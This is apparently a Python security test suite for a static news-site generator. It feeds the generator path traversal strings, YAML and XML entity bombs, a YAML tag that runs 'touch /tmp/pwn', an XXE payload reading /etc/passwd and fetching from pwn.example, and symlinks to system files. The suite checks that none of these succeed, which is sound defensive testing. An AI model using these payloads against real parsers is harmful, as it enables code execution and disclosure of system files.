#!/usr/bin/env python3
"""Sites of hostile text: hostile.py BINARY [--quick|--long] [--no-browser] [TRIAL...]. Every one gives pages that are safe, shown in a real browser, or a diagnostic
with its place, in bounded time and memory; `verify` proves what was published. Exit 1 when something is wrong."""
import itertools
import json
import os
import pathlib
import re
import shutil
import socket
import stat
import subprocess
import sys
import unicodedata
import urllib.parse

from naughty import BYTES, MARKDOWN, MARKUP, PATHS, STRINGS
from settings import settings
from trial import Site, article, binary, check, finish, folder, is_long, is_quick, some

BODY = ("The harbour board said on Monday that the old crane would be taken down before the winter storms. "
        "Dockers answered that the crane had been safe for forty years and asked for a second opinion.")
PLACE = re.compile(r"^(\S.*?)(:\d+)?(:\d+)?: (error|warning): ", re.M)
OURS = ("Fatal error", "SIG", "Stack dump", "fatal:")


def settled(site, name, seconds=20, megabytes=512, wanted=(0, 1), proved=True, command=None):
    """Builds; whatever comes is no crash, told with its place, bounded, and proved when it was published."""
    answer = site.run(*command, seconds=seconds, megabytes=megabytes) if command else site.build(seconds=seconds, megabytes=megabytes)
    if answer.status is None:
        check(False, f"{name}: took {answer.seconds:.0f} s and {answer.megabytes:.0f} MB (allowed {seconds} s, {megabytes} MB)")
        return answer
    good = answer.status in wanted and not any(word in answer.err for word in OURS)
    check(good, f"{name}: exit {answer.status}: {answer.err[-300:]}")
    if answer.status == 1:
        check(PLACE.search(answer.err), f"{name}: an error without a place: {answer.err[:200]}")
    check("\u001b" not in answer.err and "\u202e" not in answer.err, f"{name}: control characters reach the terminal")
    if answer.status == 0 and proved and not command:
        proof = site.run("verify", seconds=seconds * 2, megabytes=megabytes)
        check(proof.status == 0, f"{name}: verify: {proof.status}: {proof.err[-300:]}")
    if os.environ.get("SHOW"):
        print(f"  {name}: exit {answer.status}, {answer.seconds:.1f} s, {answer.megabytes:.0f} MB", flush=True)
    return answer


def quoted(text):
    """As YAML reads it, whatever it holds."""
    plain = lambda c: c.isalnum() and ord(c) < 0x300 or c in " !#$%&'()*+,-./:;<=>?@[]^_`{|}~"
    return '"' + "".join(c if plain(c) else f"\\U{ord(c):08x}" for c in text) + '"'


def every_field(site, vectors):
    """Each vector in each field of an article, in Markdown, text and saved pages, and in names of files."""
    for number, vector in enumerate(vectors):
        day = 1 + number % 28
        fields = f"""---
title: {quoted(vector + f" {number}")}
date: 2023-09-{day:02}T08:00:00Z
source: {quoted(vector)}
author: [{quoted(vector)}, {quoted("Ann " + vector)}]
section: {quoted(vector)}
topics: [{quoted(vector)}, {quoted(vector + " b")}]
link: https://example.org/?{urllib.parse.quote(vector.encode("utf-8", "replace"))}
imageAlt: {quoted(vector)}
---
"""
        site.write(f"m/{number}.md", fields + f"\n{BODY}\n\n{vector}\n\nText {vector} text.\n\n“{vector} was the answer of the board here,” said Ann {vector} on Monday.\n")
        site.write(f"t/{number}.txt", f"Quay {number} {vector}\nBy {vector}\n\n{BODY}\n\n{vector}\n\nThe board of quay {number} said {vector} on Tuesday evening.\n")
        site.write(f"h/{number}.html", f"<html><head><title>{vector} {number}</title><meta property='og:site_name' content=\"{vector}\">"
                   f"<meta name=author content='{vector}'><script type=application/ld+json>{{\"@type\":\"NewsArticle\",\"headline\":{json.dumps(vector)}}}</script></head>"
                   f"<body><article><h1>{vector} {number}</h1><p>{BODY}</p><p>{vector}</p><p>Pier {number}: {vector} and {BODY}</p></article></body></html>")
        name = re.sub(r"[/\x00]", "_", vector)[:50].strip(".") or "x"
        site.write(f"{name[:30]}/{number} {name}.md", article(number, day))


def fields():
    """Markup in every field; what is published is looked at in a browser."""
    path = pathlib.Path(subprocess.check_output(["mktemp", "-d"], text=True).strip())
    vectors = MARKUP + MARKDOWN + [text for text in STRINGS if len(text) < 200]
    settings = f"""title: {quoted(MARKUP[0] + " Trial")}
baseURL: https://example.org/
description: {quoted(MARKUP[8])}
"""
    site = Site(binary(), path, settings=settings)
    every_field(site, vectors)
    for number, text in enumerate(MARKDOWN):
        site.write(f"body/{number}.md", f"---\ntitle: Body {number}\ndate: 2023-10-{1 + number % 28:02}\nsource: Body Post\n---\n\n{BODY}\n\n{text}\n")
    site.write("editor.yaml", "".join(f"- note: {{story: m/{n}.md, text: {quoted(v)}}}\n" for n, v in enumerate(MARKUP[:20])))
    site.write("sources.yaml", f"{quoted(MARKUP[0])}: {{family: {quoted(MARKUP[1])}, language: en}}\n")
    answer = settled(site, "every field", seconds=120, megabytes=1024, wanted=(0, 1))
    if answer.status == 1:
        # Lines of the editor and of the sources may be refused; then without them.
        print("  " + answer.err[:600].replace("\n", "\n  "))
        (site.content / "editor.yaml").unlink()
        (site.content / "sources.yaml").unlink()
        settled(site, "every field", seconds=120, megabytes=1024, wanted=(0,))
    check(not pathlib.Path("/tmp/pwn").exists(), "a shell ran")
    return site


def traversal():
    for path in some(PATHS):
        with folder() as root:
            site = Site(binary(), root / "site", articles=1)
            outside = set(root.rglob("*"))
            site.write("a.md", f"---\ntitle: {quoted(path + ' title')}\nslug: {quoted(path)}\nsource: {quoted(path)}\nsection: {quoted(path)}\ntopics: [{quoted(path)}]\n"
                       f"link: {quoted(path)}\nimage: {quoted(path)}\ndate: 2023-09-01\n---\n\n{BODY}\n\n[a]({path.strip()})\n![b]({path.strip()})\n")
            settled(site, f"path {path[:40]!r}")
            strange = {str(p.relative_to(root)) for p in set(root.rglob("*")) - outside if "site/Public" not in str(p)}
            check(strange <= {"site/Content/a.md", "site/Content/ledger.jsonl", "site/.broadsheet-cache", "site/.broadsheet-twin"} or
                  all(s.startswith(("site/Content", "site/.broadsheet-cache", "site/.broadsheet-twin")) for s in strange), f"path {path[:40]!r}: wrote {strange}")
    for bad in ("/etc/passwd", "../../secret.png", "..%2fsecret.png", "loop.png", "/dev/zero", "pipe.png"):
        with folder() as root:
            site = Site(binary(), root / "site", articles=1)
            (root / "secret.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"secret" * 20)
            (site.content / "loop.png").symlink_to("loop.png")
            os.mkfifo(site.content / "pipe.png")
            site.write("a.md", f"---\ntitle: A\nimage: {bad}\nimageAlt: x\ndate: 2023-09-01\n---\n\n{BODY}\n\n![b]({bad})\n")
            settled(site, f"picture {bad}")
            check(not any(b"secret" * 3 in data or b"root:x" in data for data in site.files().values()), f"picture {bad}: published a file from outside")


def bomb(depth, width=10):
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * width)}]" for i in range(1, depth)]
    return "\n".join(lines) + "\n"


YAML = {
    "bomb": bomb(12), "wide bomb": bomb(4, 2000), "self": "title: &a [*a]\n", "merge": "a: &a {title: x}\n<<: *a\n", "merge bomb": "a: &a {x: 1}\nb: &b {<<: [*a, *a]}\n" * 50,
    "flow depth": "title: " + "[" * 100_000 + "\n", "closed flow depth": "title: " + "[" * 20_000 + "]" * 20_000 + "\n", "map depth": "title: " + "{a: " * 50_000 + "\n",
    "block depth": "".join(" " * n + "a:\n" for n in range(3000)), "dash depth": "- " * 50_000 + "x\n", "question": "? " * 50_000 + "x\n", "tags": "title: !!python/object/apply:os.system ['touch /tmp/pwn']\n",
    "tag bomb": "title: " + "!a " * 10_000 + "x\n", "anchors": "".join(f"k{n}: &a{n} v\n" for n in range(20_000)), "keys": "".join(f"k{n}: v\n" for n in range(100_000)), "same key": "title: a\n" * 10_000,
    "long key": "k" * 1_000_000 + ": v\n", "long value": "title: " + "v " * 1_000_000 + "\n", "binary": "title: !!binary |\n  " + "A" * 10_000 + "\n", "tabs": "title:\tx\n\tkey: v\n", "quote": "title: \"" + "\\" * 10_001 + "\n",
    "escapes": "title: \"" + "\\x00\\u202e\\ud800" * 10 + "\"\n", "documents": "---\n" * 1000, "directives": "%YAML 9.9\n%TAG ! tag:x\n---\ntitle: x\n", "nulls": "title: a\x00b\n", "times": "date: 99999-99-99T99:99:99Z\n",
    "big year": "date: 9999999999-01-01\n", "year 0": "date: 0000-00-00\n", "negative": "date: -0001-01-01\nweight: -99999999999999999999\n", "list for text": "title: [a, b]\n", "map for text": "title: {a: b}\n",
    "bidirectional": "title: \"\u202e\u2066x\"\n", "comments": "# " + "x" * 1_000_000 + "\n", "pipe": "title: |\n" + "  x\n" * 100_000, "carriage": "title: a\rsource: b\r", "colon": ":" * 100_000 + "\n", "language": "language: " + "a-" * 10_000 + "a\n",
}


def yaml():
    for name, text in some(YAML.items()):
        with folder() as root:
            site = Site(binary(), root, articles=2)
            site.write("a.md", f"---\n{text}---\n\n{BODY}\n")
            settled(site, f"front matter: {name}", seconds=10)
        for file in ("site.yaml", "sources.yaml", "editor.yaml", "../Templates/strings/en.yaml"):
            if is_quick() or not is_long() and name not in ("bomb", "wide bomb", "self", "flow depth", "closed flow depth", "block depth", "dash depth", "documents"):
                continue
            with folder() as root:
                site = Site(binary(), root, articles=2)
                site.write(file, text)
                settled(site, f"{file}: {name}", seconds=10)


def markdown_trials(scale):
    n = 1000 * scale
    return {
        "quotations": "> " * (5 * n) + "x", "lists": "".join("  " * k + "- x\n" for k in range(n)), "dashes": "- " * (5 * n) + "x", "stars": "*" * (50 * n), "star words": "*a " * (20 * n), "underscores": "_a_" * (20 * n),
        "brackets": "[" * (50 * n), "closed brackets": "[" * (20 * n) + "]" * (20 * n), "pictures": "![" * (30 * n), "links": "[a](" * (20 * n), "backticks": "".join("`" * (k % 500) + " " for k in range(5 * n)), "less": "<" * (50 * n),
        "tags": "<a " * (20 * n), "comments": "<!--" * (20 * n), "entities": "&amp" * (20 * n), "numbers": "&#x" + "1" * (50 * n) + ";", "autolinks": "<http://a" * (20 * n), "references": "".join(f"[r{k}]: x\n" for k in range(10 * n)) + "[r1]" * (2 * n),
        "same reference": "[a]: b\n" * (10 * n), "columns": "|" + "a|" * (2 * n) + "\n|" + "-|" * (2 * n) + "\n|" + "b|" * (2 * n), "rows": "|a|b|\n|-|-|\n" + "|c|d|\n" * (10 * n), "headings": "# a\n\n" * (5 * n), "setext": "a\n=\n" * (5 * n),
        "footnotes": "".join(f"Word {k}.[^{k}] " for k in range(50 * n)) + "\n\n" + "".join(f"[^{k}]: Note {k}.\n" for k in range(50 * n)), "nested emphasis": "**a _b " * (5 * n), "fences": "```\n" * (10 * n), "tildes": "~~~" * (20 * n),
        "html blocks": "<div>\n" * (10 * n), "paragraphs": "a\n\n" * (50 * n), "one sentence": "word " * (50 * n), "sentences": "He said it. " * (20 * n), "dots": ". " * (50 * n), "quotes": "“" * (20 * n), "open quotes": "“He said so. " * (5 * n),
        "names": "Ann Bly " * (20 * n), "capitals": "A" * (100 * n), "figures": "12 people, " * (10 * n), "dates": "On 3 May 2023 it was. " * (5 * n), "abbreviations": "Mr. U.S. a.m. " * (10 * n), "combining": "a" + "\u0301" * (50 * n),
        "spaces": "a" + " " * (100 * n) + "b", "lines": "\n" * (100 * n), "escapes": "\\" * (50 * n), "emoji": "\U0001f468\u200d" * (20 * n), "Thai": "สวัสดี" * (5 * n), "Chinese": "田中さん" * (10 * n), "zero width": "a\u200b" * (20 * n), "hyphens": "a-" * (50 * n),
        "dash rules": "---\n" * (10 * n), "tabs": "\t" * (50 * n) + "x", "bars": "|" * (50 * n) + "\n" + "-|" * 100, "brackets and parens": "[a](b" * (10 * n), "colons": "[a]:" * (20 * n), "digits": "1. " * (5 * n) + "x", "right": ")" * (50 * n),
        "two emphases": "**a *b " * (20 * n), "crossed emphases": "_a*b" * (30 * n), "instructions": "<?" * (50 * n), "cdata": "<![CDATA[" * (20 * n), "declarations": "<!A " * (20 * n), "ticks": "`a``b```" * (20 * n), "half a tag": "a <a href=\"" * (20 * n),
        "quotes and brackets": "\"a[" * (20 * n), "quoted ticks": "".join("> " + "`" * (k % 100) + "\n" for k in range(3 * n)), "links in lines": "[a](b) " * (30 * n), "angles": ">" * (100 * n) + "x", "ordered depth": "".join("   " * k + "1. x\n" for k in range(n)),
    }


def bounds():
    """What a build may take of a text of this size."""
    return {"seconds": 60, "megabytes": 1500} if is_long() else {"seconds": 10, "megabytes": 512}


def markdown():
    for name, text in some(markdown_trials(10 if is_long() else 1).items()):
        with folder() as root:
            site = Site(binary(), root, articles=1)
            site.write("a.md", f"---\ntitle: Deep\ndate: 2023-09-01\nsource: Post\n---\n\n{BODY}\n\n{text}\n")
            settled(site, f"markdown: {name}", **bounds())
            site.write("a.md", article(1))
            site.write("a.txt", f"A headline of the day\n\n{BODY}\n\n{text}\n")
            settled(site, f"text: {name}", **bounds())


def html_trials(scale):
    n = 1000 * scale
    return {
        "divs": "<div>" * (20 * n) + "x", "spans": "<span>" * (20 * n) + BODY, "bold": "<b>" * (10 * n) + BODY, "misnested": "<b><p>x</b>" * (5 * n), "fonts": "<font><a>" * n + BODY, "tables": "<table><tr><td>" * (2 * n) + BODY, "lists": "<ul><li>" * (10 * n) + BODY,
        "attributes": "<p " + " ".join(f"a{k}=b" for k in range(20 * n)) + ">" + BODY, "same attributes": "<p " + "a=b " * (50 * n) + ">" + BODY, "long attribute": "<p a=\"" + "b" * (1000 * n) + "\">" + BODY, "comments": "<!--x-->" * (50 * n) + BODY, "open comment": "<!--" * (20 * n),
        "entities": "&amp;" * (100 * n), "bad entities": "&#x110000;&#xD800;&#0;" * (20 * n), "open tag": "<p" * (50 * n), "less": "<" * (100 * n), "greater": ">" * (100 * n), "scripts": "<script>x</script>" * (10 * n), "open script": "<script>" + "x" * (1000 * n),
        "end tags": "</p></div></b>" * (20 * n), "forms": "<form>" * (10 * n), "select": "<select>" * (10 * n), "svg": "<svg>" * (5 * n), "templates": "<template>" * (5 * n), "frames": "<frameset>" * n, "headings": "<h1>a</h1>" * (10 * n), "paragraphs": f"<p>{BODY}</p>" * (2 * n),
        "breaks": "a<br>" * (50 * n), "links": "<a href=x>y</a> " * (20 * n), "rows": "<table>" + "<tr><td>a<td>b" * (20 * n), "ld+json": "<script type=application/ld+json>" + "[" * (50 * n) + "</script>" + BODY, "ld+json objects": "<script type=application/ld+json>" + "{\"a\":" * (20 * n) + "</script>" + BODY,
        "meta": "<meta property=og:title content=x>" * (20 * n) + BODY, "class names": "<p class='" + "a " * (50 * n) + "'>" + BODY, "nulls": "\x00" * (100 * n), "noscript": "<noscript>" * (10 * n) + BODY, "iframes": "<iframe>" * (5 * n), "plaintext": "<plaintext>" + "<p>" * (20 * n),
        "nested articles": "<article>" * (5 * n) + f"<p>{BODY}</p>" * 20, "text areas": "<textarea>" * (10 * n), "buttons": "<button>" * (5 * n) + BODY, "ruby": "<ruby><rt>" * (5 * n) + BODY, "dd": "<dl><dd>" * (10 * n), "nobr": "<nobr>" * (2 * n) + BODY,
    }


def html():
    for name, text in some(html_trials(10 if is_long() else 1).items()):
        with folder() as root:
            site = Site(binary(), root, articles=1)
            site.write("a.html", f"<html><head><title>Deep</title></head><body><article><h1>Deep water</h1><p>{BODY}</p>{text}</article></body></html>")
            settled(site, f"page: {name}", **bounds())


def feed_trials(scale):
    n = 1000 * scale
    head = '<?xml version="1.0"?>'
    item = f"<item><title>T</title><link>https://example.org/{{}}</link><description>{BODY}</description></item>"
    rss = lambda inner: f"{head}<rss version='2.0'><channel><title>F</title>{inner}</channel></rss>"
    return {
        "laughs": head + "<!DOCTYPE r [<!ENTITY a0 'x'>" + "".join(f"<!ENTITY a{k} '{f'&a{k - 1};' * 10}'>" for k in range(1, 12)) + "]><rss><channel><item><title>&a11;</title><link>https://example.org/a</link></item></channel></rss>",
        "external": head + "<!DOCTYPE r [<!ENTITY e SYSTEM 'file:///etc/passwd'><!ENTITY % p SYSTEM 'http://pwn.example/x'>%p;]><rss><channel><item><title>&e;</title><link>https://example.org/a</link><description>&e; " + BODY + "</description></item></channel></rss>",
        "self entity": head + "<!DOCTYPE r [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>" + rss("<item><title>&a;</title></item>"), "depth": rss("<a>" * (20 * n)), "items": rss("".join(item.format(k) for k in range(n))), "attributes": rss("<item " + "a='b' " * (20 * n) + "/>"),
        "cdata": rss("<item><title><![CDATA[" * n), "markup": rss("".join(f"<item><title>{json.dumps(v)}</title><link>https://example.org/{k}</link><description><![CDATA[{v} {BODY}]]></description></item>" for k, v in enumerate(MARKUP))),
        "links": rss("".join(f"<item><title>T{k}</title><link>{p.replace('&', '').replace('<', '')}</link><guid>{k}</guid><description>{BODY}</description></item>" for k, p in enumerate(PATHS) if "\x00" not in p)), "json depth": '{"version":"https://jsonfeed.org/version/1.1","items":' + "[" * (50 * n), "json objects": '{"items":' + '{"a":' * (20 * n),
        "json": json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "F", "items": [{"id": v, "url": v, "title": v, "content_html": v + BODY, "date_published": v} for v in MARKUP + PATHS]}), "opml": "<opml><body>" + "<outline>" * (20 * n), "less": head + "<" * (50 * n), "ampersands": rss("<item><title>" + "&" * (50 * n)),
        "names": rss("<" + "a" * (1000 * n) + "/>"), "doctype": head + "<!DOCTYPE " + "[" * (50 * n), "instructions": head + "<?x?>" * (20 * n),
    }


def feeds():
    for name, text in some(feed_trials(10 if is_long() else 1).items()):
        with folder() as root:
            site = Site(binary(), root / "site", articles=1)
            file = root / ("feed.opml" if name == "opml" else "feed.json" if name.startswith("json") else "feed.xml")
            file.write_text(text, encoding="utf-8", errors="surrogatepass")
            before = set(root.rglob("*"))
            settled(site, f"feed: {name}", seconds=30, command=("import", str(file)))
            check(all("site/Content" in str(p) for p in set(root.rglob("*")) - before), f"feed: {name}: wrote {set(root.rglob('*')) - before}")
            check(not any(b"root:x" in p.read_bytes() for p in site.content.rglob("*") if p.is_file()), f"feed: {name}: read a file of the system")
            settled(site, f"site of feed: {name}", seconds=30)


def bytes_of_all_kinds():
    with folder() as root:
        site = Site(binary(), root, articles=1)
        for number, data in enumerate(BYTES):
            for kind in ("md", "txt", "html"):
                site.write(f"raw-{kind}/{number}.{kind}", data)
                site.write(f"in-{kind}/{number}.{kind}", b"---\ntitle: A " + data + b"\n---\n\n" + BODY.encode() + b" " + data + b"\n")
                site.write(f"body-{kind}/{number}.{kind}", b"---\ntitle: Number %d\n---\n\n" % number + BODY.encode() + b" " + data + b"\n")
        settled(site, "bytes", wanted=(0, 1))
        for number in range(len(BYTES)):
            for kind in ("md", "txt", "html"):
                (site.content / f"in-{kind}/{number}.{kind}").unlink()
        settled(site, "bytes without those in front matter", wanted=(0,))
    for file in ("site.yaml", "sources.yaml", "editor.yaml", "ledger.jsonl"):
        for data in BYTES if is_long() else some(BYTES):
            with folder() as root:
                site = Site(binary(), root, articles=1)
                site.write(file, data)
                settled(site, f"{file} of bytes {data[:6]!r}")
    for long_text in some(text for text in STRINGS if len(text) >= 200):
        with folder() as root:
            site = Site(binary(), root, articles=1)
            every_field(site, [long_text])
            settled(site, f"long text {long_text[:8]!r}")


# What a file may be full of.
FULL = {
    "newlines": "\n", "returns": "\r", "letters": "a", "words": "word ", "names": "Ann Bly ", "zeros": "\0", "bold": "<b>", "paragraphs": "<p>" + BODY, "sentences": BODY + "\n\n", "one line": BODY + " ", "quotations": "> ", "items": "- x\n",
    "links": "[a](b) ", "references": "&amp;", "stars": "*a ", "brackets": "[", "ticks": "`a ", "cells": "|a", "notes": "x[^1] ", "quotes": "“", "Thai": "สวัสดี", "Chinese": "田中さん。", "marks": "\u0301", "less": "<", "headings": "# a\n",
    "dates": "On 3 May 2023 12 people. ", "colons": ": ", "rules": "---\n", "comments": "<!--", "tags": "<a ", "half references": "&#x", "half values": "a <a href=\"", "pictures": "![", "targets": "](", "picture targets": "![a](", "emphases": "_a*b",
    "inline": "<p>A <b>bold</b> word.</p>", "hidden": "<p hidden>", "scripts": "<script>", "escapes": "\\", "greater": ">", "at": "a@b.c ", "addresses": "http://a.b/c ",
}


def large():
    """Files of 100 MB, and of just what is still read, of each kind."""
    for (name, unit), kind in itertools.product(some(FULL.items()), ("md", "txt", "html")):
        for size in (100 << 20, 16_700_000 if kind == "html" else 4_190_000):
            if size == 100 << 20 and name not in ("newlines", "letters", "zeros", "one line"):
                continue
            with folder() as root:
                site = Site(binary(), root, articles=2)
                unit_bytes = unit.encode()
                with open(site.content / f"x.{kind}", "wb") as file:
                    file.write(b"" if name in ("newlines", "returns", "zeros") else b"A headline of the day\n\n")
                    for _ in range(size >> 20):
                        file.write(unit_bytes * ((1 << 20) // len(unit_bytes)))
                answer = settled(site, f"{size >> 20} MB of {name}.{kind}", seconds=60, megabytes=2048, proved=False)
                check(f"x.{kind}" in answer.err or answer.status == 0, f"{size >> 20} MB of {name}.{kind}: not told")
    size = 100 << 20
    for name in ("site.yaml", "ledger.jsonl", "editor.yaml", "sources.yaml", "photo.jpg", "../Templates/base.mustache", "../Templates/assets/custom.css"):
        with folder() as root:
            site = Site(binary(), root, articles=2)
            site.write(name, b"")
            os.truncate(site.content / name, size)
            settled(site, f"100 MB: {name}", seconds=60, megabytes=1024, proved=False)


def files():
    """Loops, pipes, devices, sockets, and names that are nearly the same."""
    with folder() as root:
        site = Site(binary(), root, articles=3)
        content = site.content
        (content / "loop").symlink_to(".")
        (content / "up").symlink_to("..")
        (content / "self.md").symlink_to("self.md")
        (content / "a.md").symlink_to("b.md")
        (content / "b.md").symlink_to("a.md")
        (content / "nowhere.md").symlink_to("/nowhere/at/all")
        (content / "passwd.txt").symlink_to("/etc/passwd")
        (content / "zero.txt").symlink_to("/dev/zero")
        (content / "root.txt").symlink_to("/")
        os.mkfifo(content / "pipe.md")
        os.mkfifo(content / "pipe.html")
        if os.getuid() == 0:
            os.mknod(content / "null.md", stat.S_IFCHR | 0o666, os.makedev(1, 3))
            os.mknod(content / "zero.md", stat.S_IFCHR | 0o666, os.makedev(1, 5))
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(str(content / "sock.txt"))
        deep = content
        for _ in range(60):
            deep = deep / ("d" * 60)
        try:
            os.makedirs(deep)
        except OSError:
            pass
        (content / "folder.md").mkdir()
        answer = settled(site, "links, pipes and devices", wanted=(0,))
        for name in ("up", "self.md", "a.md", "nowhere.md", "passwd.txt", "zero.txt", "pipe.md", "pipe.html", "sock.txt", "root.txt"):
            check(f"Content/{name}: warning" in answer.err, f"links, pipes and devices: {name} is not told")
        check(not any(b"root:x" in data for data in site.files().values()), "a link out of Content was followed")
        listener.close()
    for file in ("site.yaml", "ledger.jsonl", "editor.yaml", "sources.yaml", "../Templates/base.mustache", "../Templates/assets/custom.css"):
        for kind in ("fifo", "loop", "folder", "zero"):
            if is_quick() and kind != "fifo":
                continue
            with folder() as root:
                site = Site(binary(), root, articles=1)
                path = site.content / file
                path.parent.mkdir(parents=True, exist_ok=True)
                path.unlink(missing_ok=True)
                if kind == "fifo":
                    os.mkfifo(path)
                elif kind == "loop":
                    path.symlink_to(path.name)
                elif kind == "zero":
                    path.symlink_to("/dev/zero")
                else:
                    path.mkdir()
                settled(site, f"{file} is a {kind}", proved=False)
    with folder() as root:
        site = Site(binary(), root)
        names = ["Straße", "STRASSE", "strasse", "é", unicodedata.normalize("NFD", "é"), "É", "İ", "i", "I", "ı", "A", "a", "ﬁ", "fi", "Å", "Å", "\u212b", "a ", " a", "a.", "-a", "--help", "con", "nul", "a\u200b", "a\u202eb", "a\nb", "a\tb", "x" * 251,
                 "'", "\"", "*", "?", "a:b", "a|b", "%2e", "$HOME", "`x`", ";", "&", "<b>", "{{x}}", "é" * 120, "\u0301"]
        for number, name in enumerate(names):
            site.write(f"names/{name}.md", article(number, 1 + number % 28))
            if len(name) < 100:
                site.write(f"{name}/{number}.md", article(100 + number, 1 + number % 28).replace("source: Sample Wire\n", ""))
        with open(os.fsencode(site.content) + b"/names/\xff\xfe.md", "wb") as file:
            file.write(article(1).encode())
        answer = settled(site, "names")
        check("content/duplicate-slug" in answer.err and "reading/name-not-utf8" in answer.err and "reading/same-name" in answer.err
              and "reading/name-begins-with-mark" in answer.err, f"names: not all is told: {answer.err[-300:]}")
        for number, path in enumerate(sorted(p for p in site.content.rglob("*.md"))):
            path.write_text(article(number, 1 + number % 28, extra=f"slug: own-{number}\n"))
        settled(site, "names with slugs of their own", wanted=(0,))
        pages = [str(p.relative_to(site.public)) for p in site.public.rglob("*") if p.is_file()]
        folded = {}
        for page in pages:
            folded.setdefault(unicodedata.normalize("NFC", unicodedata.normalize("NFKD", page).casefold()), []).append(page)
        check(all(len(same) == 1 for same in folded.values()), f"names: pages that some disks take for one: {[s for s in folded.values() if len(s) > 1][:3]}")
    count = 20_000 if is_long() else 500 if is_quick() else 2_000
    with folder() as root:
        site = Site(binary(), root)
        for number in range(count):
            site.write(f"one/{number}.md", article(number, 1 + number % 28))
        settled(site, f"{count} files in one folder", seconds=300 if is_long() else 30, megabytes=3000 if is_long() else 1024, wanted=(0,))


CLOCK = r"""
#define _GNU_SOURCE
#include <time.h>
#include <sys/time.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <unistd.h>
static long long shift(void) { const char *text = getenv("TRIAL_TIME"); return text ? atoll(text) : 0; }
int clock_gettime(clockid_t clock, struct timespec *time) {
  long result = syscall(SYS_clock_gettime, clock, time);
  if (clock == CLOCK_REALTIME) time->tv_sec = shift();
  return result;
}
time_t time(time_t *out) { time_t now = shift(); if (out) *out = now; return now; }
int gettimeofday(struct timeval *out, void *zone) { out->tv_sec = shift(); out->tv_usec = 0; return 0; }
"""


def clocks():
    for now in ("1970-01-01T00:00:00Z", "2100-12-31T23:59:59Z", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "2038-01-19T03:14:08Z", "2000-02-29T12:00:00Z"):
        with folder() as root:
            site = Site(binary(), root, articles=3)
            answer = site.run("build", "--now", now, "--future")
            check(answer.status == 0, f"--now {now}: {answer.status} {answer.err[-200:]}")
            check(site.run("verify").status == 0, f"--now {now}: not proved")
    dates = ["0001-01-01", "1583-01-01", "1899-12-31", "1969-12-31T23:59:59-12:00", "1970-01-01", "2038-01-19T03:14:08Z", "2099-12-31", "2100-02-29", "2100-02-28", "9999-12-31T23:59:60Z", "9999-12-31T23:59:59+14:00", "10000-01-01", "2023-02-30", "2023-09-12T24:00", "2023-09-12T25:61", "now",
             "0", "-1", "1e9", "99999999999999999999", "2023-W37", "2023-255", "12/09/2023", "Tue, 12 Sep 2023 08:00:00 +9999"]
    for zone in some(("UTC", "Asia/Kathmandu", "America/St_Johns", "Pacific/Apia")):
        with folder() as root:
            site = Site(binary(), root, settings=f"title: T\nbaseURL: https://example.org/\ntimeZone: {zone}\n")
            for number, date in enumerate(dates):
                site.write(f"{number}.md", article(number).replace("date: 2023-09-01T08:00:00Z", f"date: {quoted(date)}"))
            settled(site, f"dates in {zone}")
            for number, date in enumerate(dates):
                if not re.fullmatch(r"\d{4}-\d\d-\d\d(T.*)?", date) or date.startswith(("2100-02-29", "2023-02-30", "2023-09-12T2", "9999")):
                    (site.content / f"{number}.md").unlink()
            settled(site, f"dates in {zone} that are dates", command=("build", "--future", "--now", "2100-01-01T00:00:00Z"), wanted=(0,))
    if shutil.which("clang") or shutil.which("cc"):
        with folder() as root:
            (root / "clock.c").write_text(CLOCK)
            subprocess.run([shutil.which("clang") or "cc", "-shared", "-fPIC", "-o", root / "clock.so", root / "clock.c"], check=True)
            site = Site(binary(), root / "site", articles=3)
            reference = None
            for seconds in (0, 1, 4133980800, 2**31, 2**32 + 5, 253402300800, -5):
                answer = site.run("build", "--future", env={"LD_PRELOAD": str(root / "clock.so"), "TRIAL_TIME": str(seconds)})
                check(answer.status == 0, f"a clock at {seconds}: {answer.status} {answer.err[-200:]}")
                reference = reference or site.files()
                check(site.files() == reference, f"a clock at {seconds} changes the site")
            for path in site.content.rglob("*"):
                os.utime(path, (0, 0))
            check(site.run("build", "--future").status == 0, "files of 1970")
            for path in site.content.rglob("*"):
                os.utime(path, (4133980800, 4133980800))
            check(site.run("build", "--future").status == 0 and site.files() == reference, "files of 2101")


TRIALS = [traversal, settings, yaml, markdown, html, feeds, bytes_of_all_kinds, files, clocks]


def main():
    words = [word for word in sys.argv[2:] if not word.startswith("--")]
    for trial in [t for t in TRIALS + ([large] if is_long() else []) if not words or t.__name__ in words]:
        trial()
        print(trial.__name__, "done", flush=True)
    if not words or "fields" in words:
        site = fields()
        try:
            if "--no-browser" not in sys.argv and site.public.exists():
                from pages import look
                look(site, most=60 if is_quick() else None)
        finally:
            if not os.environ.get("KEEP"):
                shutil.rmtree(site.root)
        print("fields done", flush=True)
    finish()


if __name__ == "__main__":
    main()
